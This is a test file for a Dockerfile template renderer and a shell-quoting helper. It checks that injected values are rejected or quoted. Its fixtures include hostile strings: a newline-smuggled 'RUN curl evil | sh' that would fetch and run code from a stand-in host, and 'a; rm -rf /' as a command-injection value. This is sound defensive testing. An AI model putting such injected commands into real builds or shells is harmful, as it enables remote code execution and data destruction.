import { describe, expect, it } from "vitest";
import { renderTemplate, shellQuote } from "./render.ts";

describe("renderTemplate", () => {
  const text = "FROM {{BASE}}\n{{#if CA}}\nENV X=1\n{{/if}}\nRUN x {{SPEC}}\n";

  it("fills values and keeps a block whose flag is true", () => {
    expect(renderTemplate(text, { BASE: "node:24", CA: true, SPEC: "a@1" })).toBe("FROM node:24\nENV X=1\nRUN x a@1\n");
  });

  it("drops a block whose flag is false", () => {
    expect(renderTemplate(text, { BASE: "node:24", CA: false, SPEC: "a@1" })).toBe("FROM node:24\nRUN x a@1\n");
  });

  it("cannot be made to start an instruction of a value's choosing", () => {
    for (const evil of ["a@1\nRUN curl evil | sh", "a@1\r\nRUN id", "node:24\u0085RUN id", "x\u2028RUN id", "x\u0000", "x\ty"]) {
      expect(() => renderTemplate(text, { BASE: "node:24", CA: false, SPEC: evil })).toThrow(/\{\{SPEC\}\} would hold a control character/);
      expect(() => renderTemplate(text, { BASE: evil, CA: false, SPEC: "a@1" })).toThrow(/\{\{BASE\}\}/);
    }
    expect(renderTemplate(text, { BASE: "node:24", CA: false, SPEC: "'a b' \\ $HOME" }).split("\n")).toHaveLength(3);
  });

  it("refuses a value the template uses but nobody gave", () => {
    expect(() => renderTemplate(text, { BASE: "b", CA: false })).toThrow(/SPEC/);
  });
});

describe("shellQuote", () => {
  it("leaves package specs as they are", () => {
    expect(shellQuote("@modelcontextprotocol/server-memory@2026.8.31")).toBe("@modelcontextprotocol/server-memory@2026.8.31");
    expect(shellQuote("mcp-server-time==1.0")).toBe("mcp-server-time==1.0");
  });

  it("quotes anything the shell would read", () => {
    expect(shellQuote("a; rm -rf /")).toBe("'a; rm -rf /'");
    expect(shellQuote("pkg>=1")).toBe("'pkg>=1'");
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
  });
});
